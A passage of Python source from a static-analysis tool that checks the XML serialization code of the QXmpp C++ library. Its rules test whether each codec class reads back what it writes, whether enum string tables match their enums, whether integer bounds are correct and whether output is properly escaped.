            for g in prog.closure(f):
                out |= reads_of(g, cache)
                for i in range(len(g.nodes)):
                    bo = g.binop(i)
                    if bo and bo[0] in ('==', '!='):
                        for x in bo[1:]:
                            v = g.strval(x)
                            if v:
                                out.add(('elem', ('lit', v)))
    return out


def reads_of(f, cache):
    if f.id not in cache:
        R = codec.Collected()
        codec.collect_reads(f, R)
        cache[f.id] = {(k, nm) for k, nm, _, _, _ in R.items}
    return cache[f.id]


def resolve_param_names(prog, fn, nid, closure_fns):
    """a name that is a parameter of a helper/lambda: the names passed at its call sites inside the closure"""
    n = fn.nodes[fn.resolve(nid)]
    if not (n['k'] == 'var' and n.get('vk') == 'param' and not n.get('outer')):
        return None
    idx = n['pidx']
    out = set()
    found = False
    for g in closure_fns:
        for i, c in g.calls():
            s = g.sym(c)
            if not s or s['usr'] != fn.id:
                continue
            args = c.get('args', [])
            if idx < len(args):
                found = True
                out |= codec.names_of(g, args[idx])
        if fn.is_lambda:
            # calls through the variable holding the lambda: operator() on the closure object
            for i, c in g.calls():
                if c.get('op') == '()' and c.get('opargs'):
                    s = g.sym(c)
                    if s and s['usr'] == fn.id:
                        args = c['opargs'][1:]
                        if idx < len(args):
                            found = True
                            out |= codec.names_of(g, args[idx])
    return out if found else None


def reader_param_names(prog, rcl):
    """names handed to reader helpers whose DOM look-up uses a parameter as the name (e.g. readFeature(el, "bind", ns))"""
    out = set()
    for f in rcl:
        for i, n in f.calls():
            spec = codec.R_API.get(f.cname(n))
            if not spec:
                continue
            kind, ni = spec
            args = n.get('args', [])
            try:
                a = args[ni]
            except IndexError:
                continue
            an = f.nodes[f.resolve(a)]
            if an['k'] == 'var' and an.get('vk') == 'param' and not an.get('outer'):
                res = resolve_param_names(prog, f, a, rcl)
                if res:
                    for nm in res:
                        out.add((kind, nm))
    return out


def enum_string_functions(prog):
    """functions E -> string ('to') and string -> E / optional<E> ('from'), keyed by enum type"""
    to_fns = defaultdict(list)
    from_fns = defaultdict(list)
    stringish = ('QString', 'QStringView', 'QLatin1String', 'const char *', 'QByteArray')
    for f in prog.fns.values():
        if f.is_lambda or not f.params or f.raw.get('dependent'):
            continue
        ret = f.raw.get('ret', '')
        if len(f.params) == 1 and f.params[0]['tc'].startswith('enum:') and any(ret.replace('const ', '').startswith(s) for s in stringish):
            to_fns[f.params[0]['tc'][5:]].append(f)
        elif len(f.params) >= 1 and any(s in f.params[0]['t'] for s in ('QString', 'QStringView', 'QLatin1String')):
            m = re.match(r'^(?:std::optional<)?([A-Za-z_0-9:]+)>?$', ret.replace('const ', ''))
            if m and len(f.params) == 1:
                e = m.group(1)
                # resolve the enum by suffix match
                cands = [q for q in prog.enums if q == e or q.endswith('::' + e)]
                if len(cands) == 1:
                    from_fns[cands[0]].append(f)
                elif len(cands) > 1 and f.record:
                    c2 = [q for q in cands if q.startswith(f.record)]
                    if len(c2) == 1:
                        from_fns[c2[0]].append(f)
    return to_fns, from_fns


def fn_literals(f, kind):
    """string literals returned (kind='to') or compared with / looked up for the parameter (kind='from')"""
    out = set()
    tables = set()
    if kind == 'to':
        for i, n in f.returns():
            if 'e' not in n:
                continue
            for j in f.walk(n['e']):
                v = f.strval(j)
                if v is not None and f.nodes[f.skip(j)]['k'] == 'str':
                    out.add(v)
                m = f.nodes[j]
                if m['k'] == 'var' and m.get('vk') in ('global', 'static'):
                    tables.add(m.get('qname', m['name']))
    else:
        for i in range(len(f.nodes)):
            bo = f.binop(i)
            if bo and bo[0] in ('==', '!='):
                for x in bo[1:]:
                    v = f.strval(x)
                    if v is not None:
                        out.add(v)
        for i, n in f.calls():
            for a in n.get('args', []) + ([n['obj']] if n.get('obj') is not None else []):
                m = f.nodes[f.skip(a)]
                if m['k'] == 'var' and m.get('vk') in ('global', 'static'):
                    tables.add(m.get('qname', m['name']))
        for i, n in enumerate(f.nodes):
            if n['k'] == 'var' and n.get('vk') in ('global', 'static') and n.get('t', '').find('array') >= 0:
                tables.add(n.get('qname', n['name']))
    return out, tables


def table_lookup(prog, f, name):
    """the table fact for a (possibly unqualified) global used in function f"""
    for t in prog.tables.values():
        if t['qname'] == name or t['name'] == name or t['qname'].endswith('::' + name):
            if t['file'] == f.file or t['file'].endswith('.h'):
                return t
    for t in prog.tables.values():
        if t['qname'] == name or t['name'] == name.split('::')[-1]:
            return t
    return None


def run(prog, run):
    run.explanation = ('Writer/reader agreement for every codec class of the library, computed from resolved QXmlStreamWriter / QDom* calls over each '
                       'class\'s own closure: names written from fields must be names the class reads; roots must match the class\'s own guard/predicate; '
                       'enum string tables and to/from-string functions must agree with their enumerators and with each other; the integer helper\'s '
                       'bounds must be those of the instantiated type; nothing is consumed twice; no field value reaches the output unescaped. '
                       'These are necessary conditions of round-trip identity; value-level equality is not decided.')
    run.assume('QXmlStreamWriter escapes text and attribute values (Qt contract); QDomElement accessors tolerate missing nodes')
    cache = {}
    classes = codec.codec_classes(prog)
    if len(classes) < 120:
        raise AnalysisBroken('C01: only %d codec classes discovered (expected about 140)' % len(classes))
    run.extra['codec_classes'] = len(classes)
    refs = defaultdict(set)
    for f in prog.fns.values():
        for i, n in f.calls():
            s = f.sym(n)
            if s and s.get('record'):
                refs[s['record']].add(f.id)
    to_fns, from_fns = enum_string_functions(prog)
    inverse_of = {}
    for e, fs in to_fns.items():
        for f in fs:
            inverse_of[f.qname] = from_fns.get(e, [])

    r1 = run.rule('C01.R1', 'every attribute / child element a codec class writes from a field is read by the same class (writer names ⊆ reader names)', floor=500)
    r1b = run.rule('C01.R1b', 'element names produced from an enum (table or toString function) on the writer side are parsed through the same table '
                              'or the inverse function on the reader side', floor=17)
    r2 = run.rule('C01.R2', 'the root element a class writes is accepted by its own fromDom guard / predicate (nested payloads: by a reader that uses the class)', floor=145)
    nclasses = 0
    for rec, v in sorted(classes.items()):
        nclasses += 1
        W = codec.Collected()
        wcl = codec.closure(prog, v['writers'], rec, None)
        for f in wcl:
            codec.collect_writes(f, W)
        rcl = codec.closure(prog, v['readers'], rec, None)
        rset = set()
        for f in rcl:
            rset |= reads_of(f, cache)
        rset |= reader_param_names(prog, rcl)
        pset = predicate_reads(prog, rec, cache)
        ext = set()
        for fid in refs.get(rec, ()):
            ext |= reads_of(prog.fns[fid], cache)
        rnames = {(k, strip_prefix(nm[1])) for k, nm in rset | pset if nm[0] == 'lit'}
        rtables = {nm[1] for k, nm in rset | pset if nm[0] == 'table'}
        rfn_calls = set()
        rglobals = set()
        for f in rcl:
            for i, n in f.calls():
                rfn_calls.add(f.cname(n))
            for n in f.nodes:
                if n['k'] == 'var' and n.get('vk') in ('global', 'static'):
                    rglobals.add(n.get('qname', n['name']))
        strict = any(r.name == 'fromDom' for r in v['readers'])
        wildcard = any(k == 'elem' and nm[0] == 'any' for k, nm in rset)
        has_fields = any(not ex.get('const_value') and ex.get('value') is not None for kk, nn, ff, ii, ex in W.items)
        writer_ids = {f.id for f in v['writers']}
        seen_keys = set()
        for kind, nm, f, i, ex in W.items:
            is_root = False
            if kind == 'elem' and f.id in writer_ids:
                others = [j for kk, nn, ff, j, ee in W.items if ff.id == f.id and kk == 'elem' and j != i]
                is_root = not any(f.node_dominates(j, i) and j != i for j in others)
            names = {nm}
            if nm[0] == 'dyn':
                # parameter of a helper: resolve through its call sites in the closure
                n = f.nodes[i]
                spec = codec.W_API.get(f.cname(n))
                arg = n['args'][spec[1]] if spec else None
                res = resolve_param_names(prog, f, arg, wcl) if arg is not None else None
                if res is None:
                    key = ('dyn', kind, f.display(), nm[1])
                    if key not in seen_keys:
                        seen_keys.add(key)
                        top = f.outer_name()
                        if any(top.startswith(k) for k in DYN_NAME_OK):
                            pass
                        else:
                            run.info(r1, f.loc(i), '%s: %s name computed at run time (%s) — covered by R6' % (rec, kind, nm[1]))
                    continue
                names = res
            for nm1 in names:
                key = (rec, kind, nm1, is_root)
                if key in seen_keys:
                    continue
                seen_keys.add(key)
                if nm1[0] == 'lit':
                    name = strip_prefix(nm1[1])
                    if not name:
                        continue
                    if is_root:
                        run.instance(r2)
                        ok = ('elem', name) in rnames
                        if not ok and not strict:
                            ok = any(k == 'elem' and n2[0] == 'lit' and strip_prefix(n2[1]) == name for k, n2 in ext)
                        if ok:
                            run.ok(r2, f.loc(i), '%s root <%s/>' % (rec, name), nontrivial=True)
                        elif not strict and not has_fields and not (rset - {('elem', ('any', ''))}):
                            run.ok(r2, f.loc(i), '%s root <%s/>: write-only request without fields, nothing to read back' % (rec, name), nontrivial=False)
                        else:
                            run.violation(r2, '%s#root:%s' % (rec, name), f.loc(i),
                                          '%s writes root element <%s/> which neither its own reader/predicate nor any user of the class accepts'
                                          % (rec, name))
                        continue
                    if ex.get('const_value'):
                        # a constant written unconditionally is decoration (xml:lang="en", xmlns); written under a
                        # condition it encodes a boolean field (approved="true") and must be read back
                        if decoration_of_element(f, i, W):
                            continue
                    if kind == 'attr' and nm1[1].startswith('xmlns'):
                        continue
                    run.instance(r1)
                    if (kind, name) in rnames:
                        run.ok(r1, f.loc(i), '%s %s "%s"' % (rec, kind, name), nontrivial=True)
                    elif kind == 'elem' and wildcard:
                        run.ok(r1, f.loc(i), '%s element "%s" (reader iterates over all children)' % (rec, name), nontrivial=False)
                    else:
                        run.violation(r1, '%s#%s:%s' % (rec, kind, name), f.loc(i),
                                      '%s writes %s "%s" from a field but never reads it back (lost on a round trip)'
                                      % (rec, 'attribute' if kind == 'attr' else 'element', name))
                elif nm1[0] == 'table':
                    run.instance(r1b)
                    t = nm1[1]
                    if t in rtables or t in rglobals or t.split('::')[-1] in {g.split('::')[-1] for g in rglobals}:
                        run.ok(r1b, f.loc(i), '%s %s name from table %s, read through the same table' % (rec, kind, t))
                    else:
                        run.violation(r1b, '%s#%s-table:%s' % (rec, kind, t), f.loc(i),
                                      '%s writes %s names from table %s but its reader never consults that table' % (rec, kind, t))
                elif nm1[0] == 'fn':
                    fq = nm1[1]
                    invs = inverse_of.get(fq)
                    if invs is None:
                        # a to-string function that is not enum->string (e.g. serializeInt) – a value, not a name table
                        continue
                    run.instance(r1b)
                    if any(g.qname in rfn_calls for g in invs):
                        run.ok(r1b, f.loc(i), '%s %s name via %s, parsed via %s' % (rec, kind, fq, [g.qname for g in invs if g.qname in rfn_calls][0]))
                    else:
                        # table-based inverse
                        wf = prog.fns_named(fq)
                        wt = set()
                        for g in wf:
                            wt |= fn_literals(g, 'to')[1]
                        if wt and (wt & rglobals or {x.split('::')[-1] for x in wt} & {x.split('::')[-1] for x in rglobals}):
                            run.ok(r1b, f.loc(i), '%s %s name via %s (table %s also used by the reader)' % (rec, kind, fq, sorted(wt)[0]))
                        else:
                            run.violation(r1b, '%s#%s-fn:%s' % (rec, kind, fq), f.loc(i),
                                          '%s writes %s names with %s but its reader uses no inverse of it' % (rec, kind, fq))
    run.extra['codec_classes_checked'] = nclasses

    # ---- R1c: attributes paired with their element context (where both sides are known)
    r1c = run.rule('C01.R1c', 'an attribute written inside element E is read from E (not merely from some other element of the class), '
                              'wherever the element is identifiable on both sides', floor=175)
    iq_records = {r for r in prog.records if 'QXmppIq' in codec.record_chain(prog, r)}
    for rec, v in sorted(classes.items()):
        W = codec.Collected()
        wcl = codec.closure(prog, v['writers'], rec, None)
        for f in wcl:
            codec.collect_writes(f, W)
        wm = {f.id for f in v['writers']}
        rm = {f.id for f in v['readers'] if f.name in ('parse', 'fromDom')}
        reads = set()
        for f in codec.closure(prog, v['readers'], rec, None):
            for i, n in f.calls():
                if f.cname(n) in ('QDomElement::attribute', 'QDomElement::hasAttribute') and n.get('obj') is not None and n.get('args'):
                    for nm in codec.names_of(f, n['args'][0]):
                        if nm[0] == 'lit':
                            for t in codec.reader_context(f, n['obj'], i, rm, iq_records):
                                reads.add((t, strip_prefix(nm[1])))
        done = set()
        for kind, nm, f, i, ex in W.items:
            if kind != 'attr' or nm[0] != 'lit' or nm[1].startswith('xmlns'):
                continue
            if ex.get('const_value') and decoration_of_element(f, i, W):
                continue
            a = strip_prefix(nm[1])
            ctxs = codec.writer_context(f, i, W, wm)
            rc = {t for t, x in reads if x == a}
            if not rc or '*' in ctxs or '*' in rc:
                continue        # level-1 territory, or context unknown on one side
            key = (a, tuple(sorted(ctxs)))
            if key in done:
                continue
            done.add(key)
            run.instance(r1c)
            if ctxs & rc:
                run.ok(r1c, f.loc(i), '%s @%s in <%s/>' % (rec, a, '|'.join(sorted(ctxs - {'ROOT'})) or 'root'))
            else:
                run.violation(r1c, '%s#attr:%s@%s' % (rec, a, '|'.join(sorted(ctxs - {'ROOT'}))), f.loc(i),
                              '%s writes attribute "%s" on <%s/> but reads it only from <%s/>' % (rec, a, '|'.join(sorted(ctxs)), '|'.join(sorted(rc))))

    rule_tables(prog, run)
    rule_enum_functions(prog, run, to_fns, from_fns)
    rule_int_bounds(prog, run)
    rule_single_consumption(prog, run)
    rule_escaping(prog, run, classes)
    rule_descendant_axis(prog, run)
    rule_offset_sign(prog, run)
    rule_reader_shape(prog, run)
    rule_attr_before_content(prog, run)
    rule_positional_records(prog, run)
    rule_optional_guards(prog, run)


# --------------------------------------------------------------------------- R3
def _enum_of_index(f, nid):
    """(enum qname, inner enum-typed expression) of an index expression such as size_t(d->type)"""
    cur = f.resolve(nid)
    for _ in range(6):
        n = f.nodes[cur]
        if n['k'] in ('cast', 'icast'):
            if n.get('from', '').startswith('enum:'):
                return n['from'][5:], f.resolve(n['e'])
            cur = f.resolve(n['e'])
            continue
        if n.get('tc', '').startswith('enum:'):
            return n['tc'][5:], cur
        return None, None
    return None, None


def rule_tables(prog, run):
    from .. import cfgx
    rid = run.rule('C01.R3', 'a string table searched for / indexed by an enum matches the enumerators: parsing cannot produce a value outside the enum and '
                             'no reachable index is outside the table', floor=23)
    uses = defaultdict(lambda: {'search': [], 'index': []})
    for f in prog.fns.values():
        if f.raw.get('dependent'):
            continue
        for i, n in f.calls():
            cn = f.cname(n)
            if cn == 'QXmpp::Private::enumFromString' and n.get('args'):
                tn = f.nodes[f.skip(n['args'][0])]
                m = re.match(r'<([^,>]+)', f.sym(n).get('targs', ''))
                if tn['k'] == 'var' and m:
                    uses[(tn.get('qname', tn['name']), f.file if tn.get('vk') != 'global' or True else '', m.group(1).strip())]['search'].append((f, i))
                continue
            s = f.sym(n)
            tnode = idx = None
            if s and s['name'] in ('at', 'operator[]', 'value') and n.get('obj') is not None and n.get('args'):
                tnode, idx = f.nodes[f.skip(n['obj'])], n['args'][0]
            elif n.get('op') == '[]' and len(n.get('opargs', [])) == 2:
                tnode, idx = f.nodes[f.skip(n['opargs'][0])], n['opargs'][1]
            if tnode is None or tnode['k'] != 'var' or tnode.get('vk') not in ('global', 'static'):
                continue
            e, inner = _enum_of_index(f, idx)
            if e:
                uses[(tnode.get('qname', tnode['name']), f.file, e)]['index'].append((f, i, inner))
        for i, n in f.all_nodes('index'):
            tnode = f.nodes[f.skip(n['base'])]
            if tnode['k'] == 'var' and tnode.get('vk') in ('global', 'static'):
                e, inner = _enum_of_index(f, n['idx'])
                if e:
                    uses[(tnode.get('qname', tnode['name']), f.file, e)]['index'].append((f, i, inner))
    for (tname, ffile, eq), u in sorted(uses.items()):
        anyf = (u['search'] or u['index'])[0][0]
        t = None
        for cand in prog.tables.values():
            if (cand['qname'] == tname or cand['name'] == tname.split('::')[-1]) and (cand['file'] == ffile or cand['file'].endswith('.h')):
                t = cand
        en = prog.enums.get(eq) or next((e for q, e in prog.enums.items() if q.endswith('::' + eq)), None)
        if not t or not en or 'n' not in t:
            continue
        run.instance(rid)
        vals = {e['name']: e['v'] for e in en['enumerators']}
        site = '%s:%d' % (t['file'].replace('/repo/', ''), t['line'])
        n = t['n']
        problems = []
        if u['search'] and any(v not in vals.values() for v in range(n)):
            extra = [v for v in range(n) if v not in vals.values()]
            problems.append(('search', 'parsing with %s can yield the values %s which are not enumerators of %s' % (t['name'], extra[:4], en['qname'])))
        uncovered = [nm for nm, v in vals.items() if v < 0 or v >= n]
        evals = {en['qname'].rsplit('::', 1)[0] + '::' + nm if not en.get('scoped') else en['qname'] + '::' + nm: v for nm, v in vals.items()}
        for (f, i, inner) in u['index']:
            if f.nodes[inner]['k'] == 'var' and f.nodes[inner].get('vk') == 'param':
                continue        # index chosen by the caller of a public function: outside the (XML input) quantifier
            target = f.fmt(inner)
            for unc in uncovered:
                val = vals[unc]

                def custom(fn, nid, st, target=target, val=val):
                    nn = fn.nodes[nid]
                    if nn['k'] in ('mem', 'var', 'call') and fn.fmt(nid) == target:
                        return (val,)
                    return None
                ev = cfgx.Evaluator(f, {}, custom=custom, enum_values=dict(evals))
                res = cfgx.sink_reachability(f, lambda fn, c, st: ev.ev(c, st), [i])
                if res[i] is not None:
                    problems.append(('index:%s' % unc, '%s indexes %s (%d entries) with %s which may be %s (= %d): out of range'
                                     % (f.display()[:60], t['name'], n, target, unc, val)))
        if problems:
            for key, msg in problems[:3]:
                run.violation(rid, 'table:%s#%s#%s' % (t['name'], en['qname'], key), site, msg)
        else:
            run.ok(rid, site, '%s: %d entries, enum %s (%d enumerators), %d index / %d search uses in range'
                   % (t['name'], n, en['qname'], len(vals), len(u['index']), len(u['search'])))


# --------------------------------------------------------------------------- R3b
def rule_enum_functions(prog, run, to_fns, from_fns):
    rid = run.rule('C01.R3b', 'for every enum with both a toString and a fromString function, every string the former can produce is accepted by the latter', floor=20)
    for e, tfs in sorted(to_fns.items()):
        ffs = from_fns.get(e)
        if not ffs:
            continue
        for tf in tfs:
            lt, tt = fn_literals(tf, 'to')
            lt.discard('')
            if not lt and not tt:
                continue
            # choose the from-function of the same record / file
            cands = [g for g in ffs if g.record == tf.record and g.file == tf.file] or [g for g in ffs if g.file == tf.file] or ffs
            best = None
            for g in cands:
                lf, ft = fn_literals(g, 'from')
                miss = lt - lf
                if tt and (tt & ft or {x.split('::')[-1] for x in tt} & {x.split('::')[-1] for x in ft}):
                    miss = set()
                    for tn in tt:
                        t = table_lookup(prog, tf, tn)
                        if t:
                            pass
                if best is None or len(miss) < len(best[1]):
                    best = (g, miss)
            run.instance(rid)
            g, miss = best
            if miss:
                run.violation(rid, 'enum-strings:%s#%s' % (e, tf.qname), tf.loc(),
                              '%s can produce %s which %s does not accept' % (tf.qname, sorted(miss)[:5], g.qname))
            else:
                run.ok(rid, tf.loc(), '%s ↔ %s agree on %d strings' % (tf.qname, g.qname, len(lt)))


# --------------------------------------------------------------------------- R4
_INT_TYPES = {'int8_t': ('int8s',), 'uint8_t': ('int8u',), 'int16_t': ('int16s',), 'uint16_t': ('int16u',), 'int32_t': ('int32s',),
              'uint32_t': ('int32u',), 'int64_t': ('int64s',), 'uint64_t': ('int64u',)}
_CONV_RANGE = {'toShort': (16, True), 'toUShort': (16, False), 'toInt': (32, True), 'toUInt': (32, False), 'toLong': (64, True),
               'toULong': (64, False), 'toLongLong': (64, True), 'toULongLong': (64, False)}


def _type_bits(t):
    t = t.replace('unsigned char', 'uint8').replace('signed char', 'int8')
    m = re.search(r'(u?)int(8|16|32|64)', t)
    if m:
        return int(m.group(2)), m.group(1) != 'u'
    if 'unsigned short' in t:
        return 16, False
    if 'short' in t:
        return 16, True
    if 'unsigned long' in t:
        return 64, False
    if 'long' in t:
        return 64, True
    if 'unsigned' in t:
        return 32, False
    if t.strip() == 'int':
        return 32, True
    return None


def rule_int_bounds(prog, run):
    rid = run.rule('C01.R4', 'stringToInt<Int>: the range test uses numeric_limits of the instantiated type and the intermediate conversion is wide enough', floor=8)
    insts = [f for f in prog.fns.values() if f.name == 'stringToInt' and not f.is_lambda and f.raw.get('tinst')]
    if len(insts) < 8:
        raise AnalysisBroken('C01.R4: %d instantiations of stringToInt found (8 expected)' % len(insts))
    for f in sorted(insts, key=lambda x: x.targs):
        run.instance(rid)
        tb = _type_bits(f.targs)
        if not tb:
            run.info(rid, f.loc(), 'unrecognised instantiation %s' % f.targs)
            continue
        bits, signed = tb
        problems = []
        for i, n in f.calls():
            cn = f.cname(n)
            m = re.match(r'std::numeric_limits<([^>]+)>::(max|min|lowest)', cn)
            if m:
                lb = _type_bits(m.group(1))
                if lb != tb:
                    problems.append('bounds taken from numeric_limits<%s>' % m.group(1))
            s = f.sym(n)
            if s and s['name'] in _CONV_RANGE and s.get('record') in ('QString', 'QStringView', 'QByteArray'):
                cb, cs = _CONV_RANGE[s['name']]
                wide = cb > bits or (cb == bits and cs == signed)
                if not wide or (not signed and cs and cb <= bits):
                    problems.append('intermediate %s (%d bit %s) cannot hold every %s' % (s['name'], cb, 'signed' if cs else 'unsigned', f.targs))
        if problems:
            run.violation(rid, 'stringToInt%s' % f.targs, f.loc(), '; '.join(sorted(set(problems))))
        else:
            run.ok(rid, f.loc(), 'stringToInt%s: bounds and conversion fit the type' % f.targs)


# --------------------------------------------------------------------------- R5
def rule_single_consumption(prog, run):
    rid = run.rule('C01.R5', 'a catch-all loop that stores unknown children as generic extensions skips every child the base/typed reader consumes', floor=3)
    # children consumed by QXmppStanza::parse (base reader of message/presence/iq)
    base = prog.fn('QXmppStanza::parse')
    consumed = set()
    for g in codec.closure(prog, [base], 'QXmppStanza', None):
        R = codec.Collected()
        codec.collect_reads(g, R)
        for k, nm, ff, i, ex in R.items:
            if k == 'elem' and nm[0] == 'lit' and nm[1]:
                consumed.add(nm[1])
    consumed &= {'error', 'addresses'}
    if consumed != {'error', 'addresses'}:
        raise AnalysisBroken('C01.R5: QXmppStanza::parse no longer consumes <error/> and <addresses/> (found %s)' % sorted(consumed))
    found = 0

    # does the typed writer give the element a namespace of its own?  (<addresses xmlns=.../> yes; <error/> no: it inherits whatever the stanza has - none in the
    # library's own output form, jabber:client or jabber:server on a stream - so an exclusion that asks for one namespace lets the others through)
    own_ns = {}
    for w in prog.fns.values():
        if w.entry is None or w.qname not in ('QXmppStanza::Error::toXml', 'QXmppStanza::extensionsToXml'):
            continue
        calls = [(i, n) for i, n in w.calls() if (w.cname(n) or '').startswith('QXmlStreamWriter::write')]
        for k, (i, n) in enumerate(calls):
            if (w.cname(n) or '').endswith('writeStartElement') and n.get('args'):
                nm = w.strval(n['args'][-1]) or w.strval(n['args'][0])
                if nm in ('error', 'addresses'):
                    own_ns[nm] = k + 1 < len(calls) and (w.cname(calls[k + 1][1]) or '').endswith('writeDefaultNamespace')

    def excluded(f, nid, name):
        """the guards dominating nid exclude children named `name`"""
        for x, p in f.atomic_assertions_at(nid):
            if not isinstance(p, bool):
                continue
            t = f.fmt(x)
            if ('"%s"' % name) not in t:
                continue
            xn = f.nodes[f.skip(x)]
            if xn['k'] == 'call' and (f.cname(xn) or '').endswith('checkElement') and len([a for a in xn.get('args', []) if f.nodes[a]['k'] != 'defarg']) >= 3 \
                    and not own_ns.get(name, False):
                continue        # excludes the element in one namespace only, while the writer emits it without a namespace of its own
            bo = f.binop(x)
            if bo and ((bo[0] == '!=' and p) or (bo[0] == '==' and not p)):
                return True
            if not bo and p is False:
                return True
            if bo and bo[0] == '&&' and p is False:
                # !(tagName == name && namespace == ns): excludes exactly the typed child
                for side in bo[1:]:
                    b2 = f.binop(side)
                    if b2 and b2[0] == '==' and ('"%s"' % name) in f.fmt(side) and 'tagName' in f.fmt(side):
                        return True
        return False

    for f in prog.fns.values():
        if f.is_lambda or f.record not in ('QXmppIq', 'QXmppMessage', 'QXmppPresence'):
            continue
        caps = []
        for i, n in f.all_nodes('construct'):
            if n.get('cls') == 'QXmppElement' and len(n.get('args', [])) == 1:
                a = f.nodes[f.skip(n['args'][0])]
                if a.get('tc', '') == 'record:QDomElement' or 'QDomElement' in a.get('t', ''):
                    caps.append(i)
        # what the class's own writer emits through the typed path
        typed = set()
        wr = [g for g in prog.fns.values() if g.record == f.record and g.name == 'toXml' and not g.is_lambda]
        for g in codec.closure(prog, wr, f.record, None):
            for i, n in g.calls():
                cn = g.cname(n)
                if cn == 'QXmppStanza::Error::toXml':
                    typed.add('error')
                elif cn == 'QXmppStanza::extensionsToXml':
                    typed.add('addresses')
        for c in caps:
            found += 1
            run.instance(rid)
            missing = []
            for name in sorted(consumed & typed):
                if excluded(f, c, name):
                    continue
                # guard at every call site of this helper inside the same class?
                sites = [(g, i) for g, i in prog.callers().get(f.id, []) if g.record == f.record and g.nodes[i]['k'] == 'call']
                if sites and all(excluded(g, i, name) for g, i in sites):
                    continue
                missing.append(name)
            if missing:
                run.violation(rid, '%s#recaptures:%s' % (f.qname, ','.join(missing)), f.loc(c),
                              '%s stores <%s/> as a generic extension although QXmppStanza::parse already consumed it: the element is '
                              'written twice and grows by one per parse/serialize pass' % (f.qname, '/>, <'.join(missing)))
            else:
                run.ok(rid, f.loc(c), '%s: catch-all excludes the typed children %s' % (f.qname, sorted(consumed & typed)))
    if found < 3:
        raise AnalysisBroken('C01.R5: only %d catch-all extension loops found (3 expected: iq, message, presence)' % found)


# --------------------------------------------------------------------------- R6
def rule_escaping(prog, run, classes):
    rid = run.rule('C01.R6', 'codec writers emit values only through QXmlStreamWriter; raw device writes and run-time element/attribute names are confined to the listed exceptions', floor=580)
    writer_fns = {}
    for rec, v in classes.items():
        for f in codec.closure(prog, v['writers'], rec, None):
            writer_fns[f.id] = f
    # also free writer helpers
    for f in prog.fns.values():
        if f.name in codec.WRITER_METHODS and not f.is_lambda:
            writer_fns[f.id] = f
            for l in prog.lambdas_in(f):
                writer_fns[l.id] = l
    nraw = 0
    for f in writer_fns.values():
        top = f.outer_name()
        run.instance(rid)
        bad = []
        for i, n in f.calls():
            cn = f.cname(n)
            if cn in ('QXmlStreamWriter::device',):
                bad.append((i, 'raw access to the writer\'s device'))
            elif cn in ('QIODevice::write', 'QIODevice::putChar', 'QTextStream::operator<<') and 'QXmlStreamWriter::device' in f.fmt(i):
                bad.append((i, 'raw write to the writer\'s device'))
        for i, what in bad:
            if top in RAW_OK:
                nraw += 1
                run.info(rid, f.loc(i), '%s: %s' % (what, RAW_OK[top]))
            else:
                run.violation(rid, '%s#raw-write' % top, f.loc(i), '%s in %s: the value bypasses XML escaping (markup injection)' % (what, f.display()))
        # run-time names
        W = codec.Collected()
        codec.collect_writes(f, W)
        for kind, nm, ff, i, ex in W.items:
            if nm[0] == 'dyn':
                n = f.nodes[i]
                spec = codec.W_API.get(f.cname(n))
                arg = n['args'][spec[1]]
                res = resolve_param_names(prog, f, arg, list(writer_fns.values()))
                if res is not None and all(x[0] in ('lit', 'table', 'fn', 'const') for x in res):
                    continue
                if any(top.startswith(k) for k in DYN_NAME_OK):
                    run.info(rid, f.loc(i), 'run-time %s name in %s: %s' % (kind, top, [v for k, v in DYN_NAME_OK.items() if top.startswith(k)][0]))
                    continue
                an = f.nodes[f.resolve(arg)]
                src = f.fmt(arg)
                run.violation(rid, '%s#dynamic-%s-name' % (top, kind), f.loc(i),
                              '%s name taken from a run-time value (%s): a field value could alter the element structure' % (kind, src[:70]))
        if not bad:
            run.ok(rid, f.loc(), '%s: QXmlStreamWriter only' % f.display()[:70], nontrivial=False)
    run.extra['raw_writes_allowed'] = nraw


# descendant-axis look-ups that were read and found harmless (the first match in document order is the direct child)
DESCENDANT_OK = {
    'QXmppRpcMarshaller::demarshall': '<member><name/><value/></member>: item(0) of name/value is the direct child because it precedes any nested struct in document order',
}


def rule_descendant_axis(prog, run):
    rid = run.rule('C01.R7', 'parsers select direct children only: no descendant-axis look-up (elementsByTagName/elementsByTagNameNS), which also collects same-named '
                             'elements of nested payloads and re-attributes them to the outer object', floor=1)
    n = 0
    for f in prog.fns.values():
        for i, nd in f.calls():
            cn = f.cname(nd)
            if cn in ('QDomElement::elementsByTagName', 'QDomElement::elementsByTagNameNS', 'QDomDocument::elementsByTagName', 'QDomDocument::elementsByTagNameNS'):
                n += 1
                run.instance(rid)
                top = f
                while top.is_lambda and top.parent_id in prog.fns:
                    top = prog.fns[top.parent_id]
                if top.qname in DESCENDANT_OK:
                    run.ok(rid, f.loc(i), '%s: listed exception (%s)' % (top.qname, DESCENDANT_OK[top.qname][:60]), nontrivial=False)
                else:
                    run.violation(rid, '%s#descendant-lookup' % top.qname, f.loc(i),
                                  '%s collects all descendants named %s, not only the children of the element being parsed: elements of the same name inside nested '
                                  'payloads are attributed to the outer object and written twice on the next serialization' % (top.display()[:60], f.fmt(nd['args'][-1], inline=False)[:30]))
    return n


def rule_offset_sign(prog, run):
    """the sign of a formatted time-zone offset is the sign of the whole offset, not of its hour component (-00:30 must not become +00:30)"""
    rid = run.rule('C01.R8', 'timezoneOffsetToString takes the sign from the whole offset: the "-"/"+" decision (or signed format) is made on the argument itself, '
                             'not on a quotient of it', floor=1)
    f = prog.fn('QXmppUtils::timezoneOffsetToString', required=False)
    if f is None:
        raise AnalysisBroken('C01.R8: QXmppUtils::timezoneOffsetToString not found')
    run.instance(rid)

    def derives_only_from_quotient(nid, depth=0):
        """expression is p0 / c (or a local defined so)"""
        n = f.nodes[f.skip(nid)]
        bo = f.binop(f.skip(nid))
        if bo and bo[0] in ('/', '>>'):
            return True
        if n['k'] == 'var' and n.get('vk') == 'local' and depth < 4:
            d = f.single_def(n['decl'])
            return d is not None and derives_only_from_quotient(d, depth + 1)
        if n['k'] == 'call' and f.cname(n) in ('qAbs', 'std::abs', 'abs') and n.get('args'):
            return False
        return False
    decisions = []
    for i, n in enumerate(f.nodes):
        if n['k'] == 'cond' or (n['k'] == 'bin' and False):
            lits = {f.strval(n['a']), f.strval(n['b'])} | {chr(f.const_value(x)[1]) if f.const_value(x) and f.const_value(x)[0] in ('char', 'int') and 0 < f.const_value(x)[1] < 128 else None for x in (n['a'], n['b'])}
            if {'-', '+'} <= lits:
                bo = f.binop(f.skip(n['c']))
                if bo and bo[0] in ('<', '>', '<=', '>='):
                    operand = bo[1] if f.const_value(bo[2]) is not None else bo[2]
                    decisions.append(('cond', i, operand))
    for b in f.blocks.values():
        t = b.get('term')
